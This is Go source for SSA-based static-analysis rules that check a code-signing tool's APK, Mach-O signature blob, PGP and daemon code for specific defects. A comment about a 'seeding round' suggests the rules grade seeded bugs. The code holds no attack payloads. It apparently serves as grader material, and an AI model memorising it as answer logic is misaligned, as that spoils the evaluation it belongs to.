			if !hit || arg == nil {
				continue
			}
			n++
			out = append(out, gFinding{Key: fmt.Sprintf("%s in-place slice routine#%d works on a slice of its own", p.FName(fn), n), Pos: p.Pos(ci.Pos()), OK: fresh(arg, 0),
				Detail: "a routine that edits its slice argument in place (" + strings.SplitN(name, "[", 2)[0] + ") is given a slice that belongs to a decoded structure (a parameter, a receiver or a field): the elements are shifted or permuted in the caller's backing array, so merely parsing or verifying the structure changes what is later embedded and re-encoded"})
		}
	}
	return out
}

// ------------------------------------------------------------------------------ R17v

// keptDirectoryHasItsOwnOffset: the APK digest is computed "as if the central directory began where
// the signing block goes" by overriding Directory.DirLoc for the hashing step. The Directory that is
// kept in the Digest for the signing step must carry the archive's real directory offset again
// (Digest.Sign computes the span of the old signing block and the place of the end record from it):
// every store that overrides DirLoc on that object is followed, on every path to a successful
// return, by a store that puts back a value loaded from DirLoc before the override; a copy made by
// a helper whose DirLoc is overridden may be hashed but not kept.
func keptDirectoryHasItsOwnOffset(p *Prog) (out []gFinding) {
	for _, fn := range p.pkgFuncs("signers/apk") {
		// the Directory stored into a Digest literal
		var kept ssa.Value
		var at ssa.Instruction
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				if tn, f, base := p.fieldAddr(st.Addr); tn == "signers/apk.Digest" && f == "inz" {
					if _, isNew := base.(*ssa.Alloc); isNew {
						kept, at = st.Val, st
					}
				}
			}
		}
		if kept == nil {
			continue
		}
		key := p.FName(fn) + " keeps a directory with its own offset"
		isDirLoc := func(addr ssa.Value, obj ssa.Value) bool {
			tn, f, base := p.fieldAddr(addr)
			return tn == "lib/zipslicer.Directory" && f == "DirLoc" && base == obj
		}
		// a copy handed back by a helper of the package
		if call, ok := kept.(*ssa.Call); ok {
			if h := call.Call.StaticCallee(); h != nil && h.Pkg == fn.Pkg && h.Blocks != nil {
				bad := false
				for _, r := range returnsOf(h) {
					cp, isCopy := retVal(r, 0).(*ssa.Alloc)
					if !isCopy {
						continue
					}
					for _, hb := range h.Blocks {
						for _, hin := range hb.Instrs {
							if st, ok := hin.(*ssa.Store); ok && isDirLoc(st.Addr, cp) {
								bad = true
							}
						}
					}
				}
				out = append(out, gFinding{Key: key, Pos: p.Pos(at.Pos()), OK: !bad,
					Detail: "the Directory kept in the Digest is a copy whose DirLoc was overridden (" + p.FName(h) + "): Digest.Sign takes it for the archive's real directory offset, so on an APK that already has a signing block the old block is not removed and the end record is written at the wrong place"})
				continue
			}
		}
		var overrides, restores []*ssa.Store
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok || !isDirLoc(st.Addr, kept) {
					continue
				}
				// a restore: the value is a load of this object's DirLoc
				if l, ok := stripConv(st.Val).(*ssa.UnOp); ok && l.Op == token.MUL && isDirLoc(l.X, kept) {
					restores = append(restores, st)
				} else {
					overrides = append(overrides, st)
				}
			}
		}
		bad := ""
		for _, ov := range overrides {
			del := map[edge]bool{}
			sameBlock := false
			for _, rs := range restores {
				if rs.Block() == ov.Block() && instrIndex(rs) > instrIndex(ov) {
					sameBlock = true
				}
				if rs.Block() != ov.Block() {
					for _, pb := range rs.Block().Preds {
						for si, sb := range pb.Succs {
							if sb == rs.Block() {
								del[edge{pb.Index, si}] = true
							}
						}
					}
				}
				// the load that feeds the restore has to come before the override
				if l, ok := stripConv(rs.Val).(*ssa.UnOp); ok && reachableAfter(fn, ov, l, nil, nil) {
					bad = "the value put back was read after the override"
				}
			}
			if sameBlock {
				continue
			}
			seen := reachAfter(fn, ov, del, nil)
			for _, r := range p.successReturns(fn) {
				if seen[r.Block().Index] {
					restoredHere := false
					for _, rs := range restores {
						if rs.Block() == r.Block() {
							restoredHere = true
						}
					}
					if !restoredHere {
						bad = "a successful return at " + p.Pos(r.Pos()) + " is reached with the override still in place"
					}
				}
			}
		}
		out = append(out, gFinding{Key: key, Pos: p.Pos(at.Pos()), OK: bad == "",
			Detail: "the Directory kept in the Digest still carries the directory offset that was overridden for hashing (" + bad + "): Digest.Sign takes it for the archive's real directory offset, so on an APK that already has a signing block the old block is not removed and the end record is written at the wrong place"})
	}
	return out
}

// ------------------------------------------------------------------------------ R02s

// embeddedBlobsAlwaysChecked: csblob.Verify holds the blobs embedded in the signature (entitlements,
// DER entitlements, requirements - fields of SigBlob) against the special slots of the code
// directory. Whether a slot is checked may depend on the slot (no hash, nothing to check) and, for
// content the caller supplies (Info.plist, resources), on the content being there; it must not
// depend on an EMBEDDED blob being there: the superblob index that lists them is not signed, so a
// blob that is dropped from it would otherwise go unnoticed. Decided on the call of the digest
// helper: when its content argument may be a field of SigBlob (directly, or through a field of a
// table entry some SigBlob field is stored into), no nil test of that same value lies on every path
// to the call.
func embeddedBlobsAlwaysChecked(p *Prog) (out []gFinding) {
	helper := p.Func("lib/fruit/csblob.hashCheck")
	if helper == nil {
		return []gFinding{{Key: "csblob.hashCheck", Pos: "-", OK: false, Detail: "the digest helper was not found"}}
	}
	// the content parameter: what is written into the hash
	content := -1
	for _, w := range p.callsIn(helper, "(hash.Hash).Write", "(io.Writer).Write") {
		for i, pa := range helper.Params {
			if len(w.Common().Args) > 0 && w.Common().Args[0] == ssa.Value(pa) {
				content = i
			}
		}
	}
	if content < 0 {
		return []gFinding{{Key: "csblob.hashCheck content parameter", Pos: p.Pos(helper.Pos()), OK: false, Detail: "the parameter that is hashed was not recognised"}}
	}
	isBlobField := func(v ssa.Value) bool {
		tn, f, _ := p.fieldLoad(v)
		return tn == "lib/fruit/csblob.SigBlob" && (f == "Entitlement" || f == "EntitlementDER" || f == "RawRequirements")
	}
	// fields of other structs of the package that receive an embedded blob somewhere
	carries := map[string]bool{}
	for _, fn := range p.pkgFuncs("lib/fruit/csblob") {
		for _, f := range withClosures(fn) {
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					if st, ok := in.(*ssa.Store); ok && isBlobField(st.Val) {
						if tn, fld, _ := p.fieldAddr(st.Addr); tn != "" && tn != "lib/fruit/csblob.SigBlob" {
							carries[tn+"."+fld] = true
						}
					}
				}
			}
		}
	}
	mayBeEmbedded := func(v ssa.Value) bool {
		if isBlobField(v) {
			return true
		}
		tn, f, _ := p.fieldLoad(v)
		return tn != "" && carries[tn+"."+f]
	}
	sameLoc := func(a, b ssa.Value) bool {
		if a == b {
			return true
		}
		ta, fa, ba := p.fieldLoad(a)
		tb, fb, bb := p.fieldLoad(b)
		return ta != "" && ta == tb && fa == fb && ba == bb
	}
	n := 0
	for _, fn := range p.pkgFuncs("lib/fruit/csblob") {
		for _, ci := range callsOf(fn) {
			if ci.Common().StaticCallee() != helper || content >= len(ci.Common().Args) {
				continue
			}
			arg := ci.Common().Args[content]
			if !mayBeEmbedded(arg) {
				continue
			}
			n++
			g := Guard{Match: func(f Fact) bool { return f.Kind == NonNil && sameLoc(stripConv(f.V), arg) }}
			lenG := Guard{Match: func(f Fact) bool {
				bo, ok := f.V.(*ssa.BinOp)
				if !ok {
					return false
				}
				call, ok := bo.X.(*ssa.Call)
				if !ok {
					return false
				}
				bi, ok := call.Call.Value.(*ssa.Builtin)
				return ok && bi.Name() == "len" && sameLoc(call.Call.Args[0], arg) && isIntConst(bo.Y, 0) &&
					((bo.Op == token.NEQ || bo.Op == token.GTR) && f.Kind == IsTrue || bo.Op == token.EQL && f.Kind == IsFalse)
			}}
			skipped := false
			for _, gg := range []Guard{g, lenG} {
				if len(passEdges(fn, gg)) == 0 {
					continue
				}
				if missing, _ := p.unguardedFromEntry(fn, ci, gg); len(missing) == 0 {
					skipped = true
				}
			}
			out = append(out, gFinding{Key: fmt.Sprintf("%s checks the embedded blob whether or not it is there#%d", p.FName(fn), n), Pos: p.Pos(ci.Pos()), OK: !skipped,
				Detail: "the digest check of a blob embedded in the signature is made only when that blob is present: the index that lists the blobs is not covered by the signature, so taking the entitlements or the requirements out of it is accepted although the code directory binds them"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "csblob embedded blob checks", Pos: p.Pos(helper.Pos()), OK: false, Detail: "no digest check of an embedded blob was recognised (3 confirmed by reading)"})
	}
	return out
}

// ------------------------------------------------------------------------------ R13j

// probedLengthCopiedExactly: pgptools writes a literal-data packet of DEFINITE length when it could
// probe the input's size (getSize >= 0): the length goes into the packet header before the body. The
// body that follows must then be exactly that many bytes - io.CopyN with the probed size, whose
// error (EOF when the file shrank meanwhile) stops the merge before anything is committed. With a
// plain io.Copy a file that changed between the probe and the copy yields a message whose header
// lies about its body, and it is renamed over the destination without an error. Decided where the
// probe is made: from the "size >= 0" edge no successful return is reachable without a CopyN whose
// count derives from the probed size (in the function itself, or in a helper that is given the size).
func probedLengthCopiedExactly(p *Prog) (out []gFinding) {
	probe := p.Func("lib/pgptools.getSize")
	if probe == nil {
		return []gFinding{{Key: "pgptools.getSize", Pos: "-", OK: false, Detail: "the size probe was not found"}}
	}
	n := 0
	for _, fn := range p.pkgFuncs("lib/pgptools") {
		for _, ci := range callsOf(fn) {
			call, ok := ci.(*ssa.Call)
			if !ok || call.Call.StaticCallee() != probe {
				continue
			}
			n++
			S := ssa.Value(call)
			fromS := func(v ssa.Value) bool { return dependsOnNoCall(v, func(x ssa.Value) bool { return x == S }) }
			// calls that copy exactly S bytes
			exact := map[*ssa.BasicBlock]bool{}
			for _, c2 := range callsOf(fn) {
				name := p.calleeName(c2.Common())
				if name == "io.CopyN" && len(c2.Common().Args) == 3 && fromS(c2.Common().Args[2]) {
					exact[c2.Block()] = true
					continue
				}
				h := c2.Common().StaticCallee()
				if h == nil || h.Pkg != fn.Pkg || h.Blocks == nil {
					continue
				}
				for k, a := range c2.Common().Args {
					if k >= len(h.Params) || !fromS(a) {
						continue
					}
					for _, c3 := range p.callsIn(h, "io.CopyN") {
						if len(c3.Common().Args) == 3 && dependsOnNoCall(c3.Common().Args[2], func(x ssa.Value) bool { return x == ssa.Value(h.Params[k]) }) && errDisposition(c3) != errDropped {
							exact[c2.Block()] = true
						}
					}
				}
			}
			definite := Guard{Match: func(f Fact) bool {
				bo, ok := f.V.(*ssa.BinOp)
				if !ok || bo.X != S || !isIntConst(bo.Y, 0) {
					return false
				}
				return (bo.Op == token.GEQ && f.Kind == IsTrue) || (bo.Op == token.LSS && f.Kind == IsFalse)
			}}
			edges := passEdges(fn, definite)
			key := fmt.Sprintf("%s copies exactly the probed length#%d", p.FName(fn), n)
			if len(edges) == 0 {
				out = append(out, gFinding{Key: key, Pos: p.Pos(call.Pos()), OK: false, Detail: "the test `size >= 0` that selects the definite-length form was not found in the function that probes the size"})
				continue
			}
			del := map[edge]bool{}
			for b := range exact {
				for si := range b.Succs {
					del[edge{b.Index, si}] = true
				}
			}
			var starts []*ssa.BasicBlock
			for e := range edges {
				if t := fn.Blocks[e.from].Succs[e.succ]; !exact[t] {
					starts = append(starts, t)
				}
			}
			seen := reach(fn, starts, del, nil)
			bad := ""
			for _, r := range p.successReturns(fn) {
				if seen[r.Block().Index] && !exact[r.Block()] {
					bad = p.Pos(r.Pos())
				}
			}
			out = append(out, gFinding{Key: key, Pos: p.Pos(call.Pos()), OK: bad == "",
				Detail: "a successful return (" + bad + ") is reachable from the definite-length branch without an io.CopyN of the probed size: the packet header states a length the body is not held to, so an input that shrank or grew after the probe yields a cut-off or overrun message that is committed without an error"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "pgptools size probe callers", Pos: p.Pos(probe.Pos()), OK: false, Detail: "no caller of getSize found"})
	}
	return out
}
