package main

// Rules added after the fourth seeding round, third part (batch 2: C02 C04 C06 C07 C11 C12 C13 C14 C15 C18 C20).

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// ------------------------------------------------------------------------------ R12n

// bufferedAndPositioned: a stream that a function reads through a bufio.Reader is not also moved by
// that function with a relative Seek: the file position is ahead of the reader's by whatever sits in
// the buffer, so "skip n bytes from here" on the file skips from the wrong place. A relative seek
// whose offset accounts for Buffered() is accepted; absolute seeks are not judged.
func bufferedAndPositioned(p *Prog) (out []gFinding) {
	for _, fn := range p.Funcs {
		if len(fn.Blocks) == 0 {
			continue
		}
		wrapped := map[ssa.Value]ssa.CallInstruction{}
		for _, ci := range p.callsIn(fn, "bufio.NewReader", "bufio.NewReaderSize") {
			src := stripConv(ci.Common().Args[0])
			if !hasMethod(src.Type(), "Seek") {
				continue
			}
			wrapped[src] = ci
		}
		if len(wrapped) == 0 {
			continue
		}
		var srcs []ssa.Value
		for src := range wrapped {
			srcs = append(srcs, src)
		}
		sort.Slice(srcs, func(i, j int) bool { return wrapped[srcs[i]].Pos() < wrapped[srcs[j]].Pos() })
		for n, src := range srcs {
			wrap := wrapped[src]
			key := fmt.Sprintf("%s: the stream read through bufio.Reader#%d is not moved by a relative Seek", p.FName(fn), n+1)
			bad := ""
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					ci, ok := in.(ssa.CallInstruction)
					if !ok {
						continue
					}
					cc := ci.Common()
					name := ""
					var recv ssa.Value
					var args []ssa.Value
					if cc.IsInvoke() {
						name, recv, args = cc.Method.Name(), cc.Value, cc.Args
					} else if f := cc.StaticCallee(); f != nil && f.Signature.Recv() != nil && len(cc.Args) > 0 {
						name, recv, args = f.Name(), cc.Args[0], cc.Args[1:]
					}
					if name != "Seek" || len(args) != 2 || stripConv(recv) != src {
						continue
					}
					if wh, ok := constInt(args[1]); !ok || wh != 1 {
						continue
					}
					if k, ok := constInt(args[0]); ok && k == 0 {
						continue // a position query
					}
					compensated := dependsOn(args[0], func(x ssa.Value) bool {
						c, ok := x.(*ssa.Call)
						return ok && p.calleeName(c.Common()) == "(*bufio.Reader).Buffered"
					})
					if !compensated {
						bad = p.Pos(in.Pos())
					}
				}
			}
			out = append(out, gFinding{Key: key, Pos: p.Pos(wrap.Pos()), OK: bad == "",
				Detail: "the file is moved with a relative Seek at " + bad + " while it is also read through a bufio.Reader: the file's position is ahead of the reader's by the bytes still buffered, so the skip starts from the wrong place and kept data after a large replaced range is dropped from (or a later range runs off the end of) the rewritten file"})
		}
	}
	return out
}

func hasMethod(t types.Type, name string) bool {
	for _, tt := range []types.Type{t, types.NewPointer(t)} {
		ms := types.NewMethodSet(tt)
		for i := 0; i < ms.Len(); i++ {
			if ms.At(i).Obj().Name() == name {
				return true
			}
		}
	}
	return false
}

var _ = token.NoPos

// ------------------------------------------------------------------------------ R07h

// ctxLeaves: the contexts v is derived from: parents of context.With* calls, phi edges and spilled
// locals are followed; everything else is a leaf.
func ctxLeaves(p *Prog, v ssa.Value, seen map[ssa.Value]bool, stop func(ssa.Value) bool) []ssa.Value {
	v = stripConv(v)
	if v == nil || seen[v] {
		return nil
	}
	seen[v] = true
	if stop != nil && stop(v) {
		return []ssa.Value{v}
	}
	switch x := v.(type) {
	case *ssa.Extract:
		if call, ok := x.Tuple.(*ssa.Call); ok && x.Index == 0 {
			return ctxLeaves(p, call, seen, stop)
		}
	case *ssa.Call:
		switch p.calleeName(x.Common()) {
		case "context.WithTimeout", "context.WithDeadline", "context.WithCancel", "context.WithValue", "context.WithCancelCause", "context.WithTimeoutCause", "context.WithDeadlineCause":
			return ctxLeaves(p, x.Call.Args[0], seen, stop)
		}
	case *ssa.Phi:
		var out []ssa.Value
		for _, e := range x.Edges {
			out = append(out, ctxLeaves(p, e, seen, stop)...)
		}
		return out
	case *ssa.UnOp:
		if a, ok := x.X.(*ssa.Alloc); ok && x.Op == token.MUL {
			var out []ssa.Value
			for _, ref := range *a.Referrers() {
				if st, ok := ref.(*ssa.Store); ok && st.Addr == ssa.Value(a) {
					out = append(out, ctxLeaves(p, st.Val, seen, stop)...)
				}
			}
			return out
		}
	}
	return []ssa.Value{v}
}

// pinnedContextReachesToken: the worker's RPC handler pins the key id the caller saw into the request
// context (token.WithKeyID). Every token operation of that request has to run under that context or a
// child of it: a context built from anything else has lost the pin, and after a rotation the signature
// is made with a key other than the one whose certificate the client embeds.
func pinnedContextReachesToken(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.Funcs {
		if len(fn.Blocks) == 0 {
			continue
		}
		pins := p.callsIn(fn, "token.WithKeyID")
		if len(pins) == 0 {
			continue
		}
		isPin := func(v ssa.Value) bool {
			for _, pc := range pins {
				if v == pc.Value() {
					return true
				}
			}
			return false
		}
		// the contexts the pin was put on
		roots := map[ssa.Value]bool{}
		for _, pc := range pins {
			for _, l := range ctxLeaves(p, pc.Common().Args[0], map[ssa.Value]bool{}, nil) {
				roots[l] = true
			}
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				cc := ci.Common()
				name := ""
				if cc.IsInvoke() {
					name = cc.Method.Name()
				} else if f := cc.StaticCallee(); f != nil {
					name = f.Name()
				}
				switch name {
				case "GetKey", "SignContext", "Ping", "ListKeys", "Import", "Generate":
				default:
					continue
				}
				// the context argument
				var ctxArg ssa.Value
				for _, a := range cc.Args {
					if types.TypeString(a.Type(), nil) == "context.Context" {
						ctxArg = a
						break
					}
				}
				if ctxArg == nil {
					continue
				}
				if name != "GetKey" && name != "SignContext" {
					continue
				}
				n++
				hasPin, foreign := false, ""
				for _, l := range ctxLeaves(p, ctxArg, map[ssa.Value]bool{}, isPin) {
					switch {
					case isPin(l):
						hasPin = true
					case roots[l]:
					default:
						foreign = describeVal(p, l)
						if c, ok := l.(*ssa.Call); ok {
							foreign = p.calleeName(c.Common()) + "()"
						}
					}
				}
				ok2 := hasPin && foreign == ""
				why := "it descends from " + foreign
				if foreign == "" {
					why = "the pinned context is not among its ancestors"
				}
				out = append(out, gFinding{Key: fmt.Sprintf("%s %s#%d runs under the context that carries the pinned key id", p.FName(fn), name, n), Pos: p.Pos(in.Pos()), OK: ok2,
					Detail: "the context handed to " + name + " is not the one token.WithKeyID pinned the caller's key id into, nor a child of it (" + why + "): the pin is lost, and after a key rotation the operation resolves the key name to the new version while the client embeds the certificate of the version it saw"})
			}
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "a handler pins the key id and calls the token", Pos: "-", OK: false, Detail: "no function both calls token.WithKeyID and runs GetKey / SignContext (workercmd.(*handler).handle did)"})
	}
	return out
}

// ------------------------------------------------------------------------------ R14k

// keysHoldNoRequestContext: what a token's GetKey returns is kept by the key cache for later requests.
// No GetKey implementation stores the context of the call that fetched the key (or a child of it) into
// the object it returns: once that request ends the stored context is cancelled and every later
// request that is served the cached key fails.
func keysHoldNoRequestContext(p *Prog) (out []gFinding) {
	iface := p.ifaceNamed("token", "Token")
	if iface == nil {
		return []gFinding{{Key: "token.Token", Pos: "-", OK: false, Detail: "interface not found"}}
	}
	n := 0
	for _, t := range p.implementersOf(iface) {
		fn := p.methodOf(t, "GetKey")
		if fn == nil || len(fn.Blocks) == 0 {
			continue
		}
		var ctxPar *ssa.Parameter
		for _, pa := range fn.Params {
			if types.TypeString(pa.Type(), nil) == "context.Context" {
				ctxPar = pa
			}
		}
		if ctxPar == nil {
			continue
		}
		n++
		bad := ""
		for _, f := range withClosures(fn) {
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					st, ok := in.(*ssa.Store)
					if !ok {
						continue
					}
					if types.TypeString(st.Val.Type(), nil) != "context.Context" {
						continue
					}
					if _, isField := st.Addr.(*ssa.FieldAddr); !isField {
						continue
					}
					if ctxLineage(p, st.Val, ctxPar, 0) {
						tn, fld, _ := p.fieldAddr(st.Addr)
						bad = tn + "." + fld + " at " + p.Pos(st.Pos())
					}
				}
			}
		}
		out = append(out, gFinding{Key: p.FName(fn) + " keeps no request context in what it returns", Pos: p.Pos(fn.Pos()), OK: bad == "",
			Detail: "GetKey stores the context it was called with into " + bad + ": the key cache serves that key object to later requests, whose operations then run under (and fail with) the finished request's cancelled context"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "token.Token implementations with GetKey(ctx, ...)", Pos: "-", OK: false, Detail: "none found"})
	}
	return out
}

// ------------------------------------------------------------------------------ R20i

// shutdownAlwaysClosesServer: the closure Daemon.Close runs in its errgroup calls Server.Close on
// every path to every return: Server.Close is what stops the health loop and closes the Closed
// channel, and a shutdown that gave up on the listeners must still do that.
func shutdownAlwaysClosesServer(p *Prog) (out []gFinding) {
	fn := p.Func("server/daemon.(*Daemon).Close")
	if fn == nil {
		return []gFinding{{Key: "(*Daemon).Close", Pos: "-", OK: false, Detail: "function not found"}}
	}
	n := 0
	for _, body := range withClosures(fn) {
		if body == fn || len(p.callsIn(body, "(*net/http.Server).Shutdown")) == 0 {
			continue
		}
		n++
		cl := p.callsIn(body, "(*server.Server).Close")
		bad := ""
		var path []string
		if len(cl) == 0 {
			bad = "no call of Server.Close"
		} else {
			for _, r := range returnsOf(body) {
				avoid := true
				for _, c := range cl {
					if !avoidable(body, c, r) {
						avoid = false
					}
				}
				if avoid {
					bad = "return at " + p.Pos(r.Pos())
				}
			}
		}
		out = append(out, gFinding{Key: p.FName(body) + " closes the server on every path", Pos: p.Pos(body.Pos()), OK: bad == "", Path: path,
			Detail: "the shutdown step can finish without calling Server.Close (" + bad + "): when Shutdown fails (its five-minute context expires on a stuck request, a listener reports a close error) the health loop is never signalled and keeps pinging tokens of a daemon that reported itself closed, and the Closed channel stays open"})
	}
	if n == 0 {
		out = append(out, gFinding{Key: "(*Daemon).Close shutdown step", Pos: p.Pos(fn.Pos()), OK: false, Detail: "no closure of Daemon.Close calls http.Server.Shutdown"})
	}
	return out
}

// ------------------------------------------------------------------------------ R11p

// failedResultDereferenced: a pointer result of a module function that is nil whenever the function
// fails is dereferenced at a point that the failure also reaches: no test of the error (or of the
// pointer) lies between the call and the dereference. A definite nil dereference for every input
// that makes the callee fail; in a helper goroutine it takes the process down.
func failedResultDereferenced(p *Prog) (out []gFinding) {
	// callee -> result index -> "nil together with a non-nil error on some return"
	nilOnErr := map[*ssa.Function]map[int]bool{}
	for _, fn := range p.Funcs {
		ei := errResultIndex(fn.Signature)
		if ei < 0 {
			continue
		}
		for _, r := range returnsOf(fn) {
			if ei >= len(r.Results) || isNilConst(r.Results[ei]) {
				continue
			}
			for i, rv := range r.Results {
				if i == ei {
					continue
				}
				if _, isPtr := rv.Type().Underlying().(*types.Pointer); !isPtr {
					continue
				}
				if isNilConst(rv) {
					if nilOnErr[fn] == nil {
						nilOnErr[fn] = map[int]bool{}
					}
					nilOnErr[fn][i] = true
				}
			}
		}
	}
	for _, fn := range p.Funcs {
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ex, ok := in.(*ssa.Extract)
				if !ok {
					continue
				}
				call, ok := ex.Tuple.(*ssa.Call)
				if !ok {
					continue
				}
				sc := call.Common().StaticCallee()
				if sc == nil || !nilOnErr[sc][ex.Index] {
					continue
				}
				ei := errResultIndex(sc.Signature)
				// the edges on which the failure is excluded: err == nil, or the pointer != nil
				g := Guard{Name: "err==nil or result!=nil", Match: func(f Fact) bool {
					fv := stripConv(f.V)
					if l, ok := fv.(*ssa.UnOp); ok && l.Op == token.MUL {
						if sv := lastStoreBefore(l); sv != nil {
							fv = stripConv(sv)
						}
					}
					if e2, ok := fv.(*ssa.Extract); ok && e2.Tuple == ex.Tuple {
						if e2.Index == ei && f.Kind == IsNil {
							return true
						}
						if e2.Index == ex.Index && f.Kind == NonNil {
							return true
						}
					}
					return false
				}}
				del := passEdges(fn, g)
				refs := ex.Referrers()
				if refs == nil {
					continue
				}
				for _, r := range *refs {
					deref := false
					switch x := r.(type) {
					case *ssa.FieldAddr:
						deref = x.X == ssa.Value(ex)
					case *ssa.UnOp:
						deref = x.Op == token.MUL && x.X == ssa.Value(ex)
					case *ssa.Store:
						deref = x.Addr == ssa.Value(ex)
					}
					if !deref {
						continue
					}
					n++
					pred := map[int]int{}
					bad := false
					var path []string
					if r.Block() == call.Block() && instrIndex(r) > instrIndex(call) {
						bad = true
					} else if reachAfter(fn, call, del, pred)[r.Block().Index] {
						bad = true
						path = p.witness(fn, pred, r.Block().Index)
					}
					out = append(out, gFinding{Key: fmt.Sprintf("%s uses the result of %s only where it succeeded #%d", p.FName(fn), p.FName(sc), n), Pos: p.Pos(r.Pos()), OK: !bad, Path: path,
						Detail: "the pointer " + p.FName(sc) + " returns is nil whenever it fails, and it is dereferenced here on a path that has tested neither the error nor the pointer: every input that makes " + p.FName(sc) + " fail is a nil dereference" + goroutineNote(fn)})
				}
			}
		}
	}
	return out
}

func goroutineNote(fn *ssa.Function) string {
	if fn.Parent() != nil {
		return " (inside a function literal: if it runs as a goroutine, nothing recovers the panic and the process aborts)"
	}
	return ""
}

// ------------------------------------------------------------------------------ R11o

// xzDictionaryCapped: the xz decoder allocates the dictionary a block header announces, up to the
// limit NewReader is given; 0 selects the library's cap. Every call passes a constant no larger
// than 64 MiB.
func xzDictionaryCapped(p *Prog) (out []gFinding) {
	n := 0
	for _, fn := range p.Funcs {
		for _, ci := range p.callsIn(fn, "github.com/xi2/xz.NewReader") {
			n++
			k, isC := constInt(ci.Common().Args[1])
			out = append(out, gFinding{Key: fmt.Sprintf("%s xz.NewReader#%d dictionary limit", p.FName(fn), n), Pos: p.Pos(ci.Pos()), OK: isC && k >= 0 && k <= 1<<26,
				Detail: "xz.NewReader is given a dictionary limit that is not a constant of at most 64 MiB (0 = the library's cap): the decoder allocates the dictionary size the block header announces, so a file of a hundred bytes makes the type probe allocate up to 4 GiB"})
		}
	}
	if n == 0 {
		out = append(out, gFinding{Key: "xz.NewReader calls", Pos: "-", OK: true, Detail: "no xz decoder in use"})
	}
	return out
}

// lastStoreBefore: for a load of a local variable's cell, the value stored into that cell by the
// nearest preceding store in the same block (nil when there is none or a call intervenes that could
// write the cell through a captured reference).
func lastStoreBefore(l *ssa.UnOp) ssa.Value {
	a, ok := l.X.(*ssa.Alloc)
	if !ok {
		return nil
	}
	b := l.Block()
	idx := instrIndex(l)
	for i := idx - 1; i >= 0; i-- {
		switch x := b.Instrs[i].(type) {
		case *ssa.Store:
			if x.Addr == ssa.Value(a) {
				return x.Val
			}
		case ssa.CallInstruction:
			_ = x
			return nil
		}
	}
	return nil
}

// ------------------------------------------------------------------------------ R13d

var encoderConstructors = map[string]string{
	"golang.org/x/crypto/openpgp/armor.Encode":                 "Close",
	"github.com/ProtonMail/go-crypto/openpgp/armor.Encode":     "Close",
	"github.com/ProtonMail/go-crypto/openpgp/clearsign.Encode": "Close",
	"golang.org/x/crypto/openpgp/clearsign.Encode":             "Close",
	"compress/gzip.NewWriter":                                  "Close",
	"compress/gzip.NewWriterLevel":                             "Close",
	"compress/zlib.NewWriter":                                  "Close",
	"compress/zlib.NewWriterLevel":                             "Close",
	"archive/tar.NewWriter":                                    "Close",
	"archive/zip.NewWriter":                                    "Close",
	"encoding/base64.NewEncoder":                               "Close",
	"bufio.NewWriter":                                          "Flush",
	"bufio.NewWriterSize":                                      "Flush",
}

// encodersFinishedWithError: an encoder that holds output back until it is finished (armor, gzip,
// zlib, tar, zip, base64, bufio) writes its last bytes in Close / Flush. Where a function finishes
// such an encoder itself, at least one finishing call has its error looked at: a function that only
// defers the Close (or drops its result) reports success for an output whose tail was never written.
func encodersFinishedWithError(p *Prog, within map[*ssa.Function]bool) (out []gFinding) {
	for _, fn := range p.Funcs {
		if within != nil && !within[fn] && !within[p.Outer(fn)] {
			continue
		}
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				finish, ok := encoderConstructors[p.calleeNameFull(call.Common())]
				if !ok {
					continue
				}
				// the encoder value and what it flows into inside this function
				var root ssa.Value = call
				if call.Common().Signature().Results().Len() > 1 {
					root = nil
					for _, r := range *call.Referrers() {
						if e, ok := r.(*ssa.Extract); ok && e.Index == 0 {
							root = e
						}
					}
				}
				if root == nil {
					continue
				}
				vals := map[ssa.Value]bool{root: true}
				for changed := true; changed; {
					changed = false
					for v := range vals {
						refs := v.Referrers()
						if refs == nil {
							continue
						}
						for _, r := range *refs {
							switch x := r.(type) {
							case *ssa.Phi, *ssa.MakeInterface, *ssa.ChangeInterface, *ssa.ChangeType:
								if !vals[x.(ssa.Value)] {
									vals[x.(ssa.Value)] = true
									changed = true
								}
							case *ssa.Store:
								if a, ok := x.Addr.(*ssa.Alloc); ok && x.Val == v {
									for _, ar := range *a.Referrers() {
										if l, ok := ar.(*ssa.UnOp); ok && l.Op == token.MUL && !vals[l] {
											vals[l] = true
											changed = true
										}
									}
								}
							}
						}
					}
				}
				var finishes []ssa.CallInstruction
				for _, f := range withClosures(fn) {
					for _, bb := range f.Blocks {
						for _, i2 := range bb.Instrs {
							ci, ok := i2.(ssa.CallInstruction)
							if !ok {
								continue
							}
							cc := ci.Common()
							var recv ssa.Value
							name := ""
							if cc.IsInvoke() {
								recv, name = cc.Value, cc.Method.Name()
							} else if sc := cc.StaticCallee(); sc != nil && sc.Signature.Recv() != nil && len(cc.Args) > 0 {
								recv, name = cc.Args[0], sc.Name()
							}
							if name != finish || recv == nil {
								continue
							}
							if vals[recv] {
								finishes = append(finishes, ci)
							}
						}
					}
				}
				if len(finishes) == 0 {
					continue // finished by someone else (returned, stored): not judged here
				}
				if errResultIndex(fn.Signature) < 0 {
					continue // the function has no way of reporting it
				}
				n++
				looked := false
				for _, ci := range finishes {
					if errDisposition(ci) != errDropped {
						looked = true
					}
				}
				out = append(out, gFinding{Key: fmt.Sprintf("%s finishes encoder#%d (%s) with its error looked at", p.FName(fn), n, shortCallee(p.calleeNameFull(call.Common()))), Pos: p.Pos(call.Pos()), OK: looked,
